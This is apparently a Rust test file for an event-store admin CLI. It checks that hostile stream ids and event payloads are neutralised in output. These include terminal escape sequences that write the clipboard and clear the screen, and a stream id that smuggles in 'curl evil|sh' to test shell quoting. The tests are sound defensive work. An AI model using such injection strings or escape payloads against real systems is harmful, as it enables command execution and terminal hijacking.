//! Contents of a store that neither command a terminal nor are changed by mistake.

use composable_rust::store::EventStore as _;
use composable_rust::testing::InMemoryEventStore;
use composable_rust_cli::Admin;
use composable_rust_testing::fixtures::{append, new_event};

use crate::support::{Fixture, bea, composable, run_for, text};

/// An id that writes to the clipboard, clears the screen, and reverses what follows.
const EVIL: &str = "order-1\u{1b}]52;c;eA==\u{7}\u{9b}2J\u{7f}\u{202e}";

fn is_harmless(output: &str) -> bool {
    !output.contains(|c: char| c.is_control() && c != '\n' || c == '\u{202e}')
}

async fn evil() -> Admin {
    let store = InMemoryEventStore::with_partitions(1);
    for (n, stream) in (1..).zip([EVIL, "order-2"]) {
        let mut event = new_event("order.placed", br#"{"by":"\u001b[2J"}"#).id(n).build();
        event.content.codec = "json".into();
        let of = append(stream.parse().unwrap()).new_event(event).build();
        store.append_events(0, &[of]).await.unwrap();
    }
    Admin::of_store(store, bea()).unwrap()
}

#[tokio::test]
async fn a_terminal_obeys_nothing_of_a_store() {
    let admin = evil().await;
    for args in [
        &["streams", "list"][..],
        &["streams", "list", "--limit", "1"],
        &["streams", "list", "--json"],
        &["streams", "show", EVIL],
        &["streams", "show", EVIL, "--json"],
        &["streams", "events", EVIL],
        &["events"],
        &["events", "--json"],
        &["trace", "00000000-0000-0000-0000-000000000000"],
        &["erase", EVIL, "--dry-run"],
        &["override", EVIL, "1", "{}", "--unchecked", "--dry-run"],
        &["erase", "--find", "\u{1b}"],
        &["sagas", "order"],
    ] {
        let (output, code) = run_for(&admin, args).await;
        assert!(code <= 1 && output.contains("order"), "{args:?}: {code}: {output}");
        assert!(is_harmless(&output), "{args:?}: {output:?}");
    }
    let (json, _) = run_for(&admin, &["streams", "list", "--json"]).await;
    let json: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert_eq!(json["entries"][0]["stream"], EVIL, "JSON keeps it exactly");
}

#[tokio::test(flavor = "multi_thread")]
async fn an_error_is_as_harmless() {
    let fixture = Fixture::new().await;
    let output = composable(&["--store", &fixture.url(), "streams", "show", EVIL]);
    let error = text(&output.stderr);
    assert!(error.contains(r"order-1\u{1b}]52") && is_harmless(&error), "{error:?}");
}

#[tokio::test]
async fn the_next_page_is_one_word_of_a_shell() {
    let store = InMemoryEventStore::with_partitions(1);
    for (n, id) in (1..).zip(["x'; curl evil|sh; '", "y"]) {
        let stream = format!("order-{id}").parse().unwrap();
        let of = append(stream).new_event(new_event("order.placed", b"").id(n).build()).build();
        store.append_events(0, &[of]).await.unwrap();
    }
    let admin = Admin::of_store(store, bea()).unwrap();
    let (output, _) = run_for(&admin, &["streams", "list", "--limit", "1"]).await;
    assert!(output.ends_with("--after 'order-x'\\''; curl evil|sh; '\\'''\n"), "{output}");
}

#[tokio::test]
async fn a_content_that_cannot_be_checked_is_stored_only_on_request() {
    let admin = evil().await;
    let (output, code) = run_for(&admin, &["override", "order-2", "1", "{}", "--yes"]).await;
    assert_eq!(code, 5, "{output}");
    assert!(output.contains("`order` is not registered here") && output.contains("--unchecked"));
    let (output, code) = run_for(&admin, &["audit"]).await;
    assert_eq!((output.trim(), code), ("No operator has changed anything.", 0));
    let unchecked = ["override", "order-2", "1", r#"{"by":"ann"}"#, "--yes", "--unchecked"];
    let (output, code) = run_for(&admin, &unchecked).await;
    assert_eq!(code, 0, "{output}");
    let (output, _) = run_for(&admin, &["streams", "events", "order-2"]).await;
    assert!(output.contains(r#"{"by":"ann"}"#), "{output}");
}

/// Before a planned downtime, nothing waits for the gateway, and no program that registers it is at
/// hand.
#[tokio::test]
async fn an_idle_gateway_can_be_paused() {
    let admin = evil().await;
    let (output, code) = run_for(&admin, &["gateways", "pause", "bank"]).await;
    assert_eq!(code, 0, "{output}");
    assert!(output.contains("no call waits for it"), "{output}");
    let (output, code) = run_for(&admin, &["gateways", "resume", "bank"]).await;
    assert_eq!(code, 0, "{output}");
    assert!(run_for(&admin, &["gateways", "list"]).await.0.contains("No gateways."));
}

/// All that a decision reaches is what is asked about and exported.
#[tokio::test]
async fn decisions_reach_what_is_exported() {
    let fixture = Fixture::new().await;
    let admin = fixture.raw().await.examining(1);
    let (exported, _) = run_for(&admin, &["dead", "export"]).await;
    assert_eq!(exported.lines().count(), 4);
    let (output, _) = run_for(&admin, &["dead", "discard", "--all"]).await;
    assert!(output.contains("to discard 4 dead letters, add --yes"), "{output}");
    for line in exported.lines() {
        let letter: serde_json::Value = serde_json::from_str(line).unwrap();
        let id = letter["message"]["id"].as_str().unwrap();
        let (output, code) = run_for(&admin, &["dead", "show", id]).await;
        assert_eq!(code, 0, "{output}");
    }
}
